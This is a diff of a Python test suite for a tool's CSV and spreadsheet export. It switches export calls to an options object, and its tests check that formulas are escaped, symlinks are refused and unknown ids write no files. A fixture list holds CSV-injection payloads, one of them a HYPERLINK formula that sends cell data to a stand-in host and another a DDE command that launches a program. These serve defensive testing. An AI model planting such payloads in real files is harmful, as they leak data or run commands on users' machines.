@@ -14,8 +14,8 @@ from relex.domain.jobs import NewJob
 from relex.errors import RelexError
 from relex.files.writing import FORMULA_STARTS, GUARD, escape_formula, unescape_formula
 from relex.flows import control
-from relex.flows.export import export
-from tests.factories import example, prediction, register_model
+from relex.flows.export import ExportOptions, export
+from tests.factories import example, prediction, register_model, without_cells
 
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?\"&A1;\"here\")", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1",
@@ -30,8 +30,8 @@ def job(database):
     rows = [replace(example(n), id=cell) for n, cell in enumerate(HOSTILE)]
     with database.transaction() as tx:
         job_id = jobs.insert_job(tx, NewJob("key", "=1.csv", "0" * 64, model, len(rows), 0))
-        examples.copy_in(tx, job_id, rows)
-        shards.cut(tx, job_id, len(rows), 512)
+        examples.copy_in(tx, job_id, without_cells(rows))
+        shards.create_shards(tx, job_id, len(rows), 512)
         shard = shards.claim(tx, "worker", 60)
         error = RowError(rows[-1].row_no, "poison", "=1+1")
         shards.complete(tx, shard, Outcome([prediction(item) for item in rows[:-1]], [error]))
@@ -45,7 +45,10 @@ def read(path, codec="utf-8"):
 
 
 def test_the_plain_export_is_the_same_with_and_without(database, job, tmp_path):
-    plain, both = export(database, job, tmp_path / "plain"), export(database, job, tmp_path / "both", excel=True)
+    plain, both = (
+        export(database, job, tmp_path / "plain"),
+        export(database, job, tmp_path / "both", ExportOptions(excel=True)),
+    )
     for one, other in ((plain.predictions, both.predictions), (plain.errors, both.errors)):
         assert one.read_bytes() == other.read_bytes()
     assert [row[0] for row in read(plain.predictions)] == ["id", *HOSTILE[:-1]]
@@ -54,7 +57,7 @@ def test_the_plain_export_is_the_same_with_and_without(database, job, tmp_path):
 
 
 def test_an_earlier_export_leaves_nothing_beside_a_later_one(database, job, tmp_path):
-    export(database, job, tmp_path, excel=True)
+    export(database, job, tmp_path, ExportOptions(excel=True))
     assert len(list(tmp_path.iterdir())) == 6
     with database.transaction() as tx:
         control.retry_job(tx, job, rows=True)
@@ -66,7 +69,7 @@ def test_an_earlier_export_leaves_nothing_beside_a_later_one(database, job, tmp_
 
 
 def test_a_spreadsheet_finds_no_formula_and_every_id_can_be_had_back(database, job, tmp_path):
-    files = export(database, job, tmp_path, excel=True)
+    files = export(database, job, tmp_path, ExportOptions(excel=True))
     assert [path.name for path in files.spreadsheets] == [f"{job}.excel.csv", f"{job}.errors.excel.csv"]
     for plain, copy in zip((files.predictions, files.errors), files.spreadsheets, strict=True):
         text = copy.read_bytes()
@@ -102,7 +105,7 @@ def test_a_link_in_the_folder_is_refused_and_its_target_left(database, job, tmp_
     other.write_text("mine")
     (out / f"{job}{end}").symlink_to(other)
     with pytest.raises(RelexError, match="already exists"):
-        export(database, job, out, excel=True)
+        export(database, job, out, ExportOptions(excel=True))
     assert other.read_text() == "mine"
     assert [path.name for path in out.iterdir() if path.is_symlink()] == [f"{job}{end}"]
     assert len(list(out.iterdir())) == 1
@@ -145,7 +148,7 @@ def test_an_id_that_relex_did_not_give_names_no_file(database, tmp_path, evil):
             (evil,),
         )
     with pytest.raises(RelexError, match="is not an id that relex gave"):
-        export(database, evil, tmp_path / "a" / "b", partial=True)
+        export(database, evil, tmp_path / "a" / "b", ExportOptions(partial=True))
     assert not [path for path in tmp_path.rglob("*") if path.is_file()]
 
 
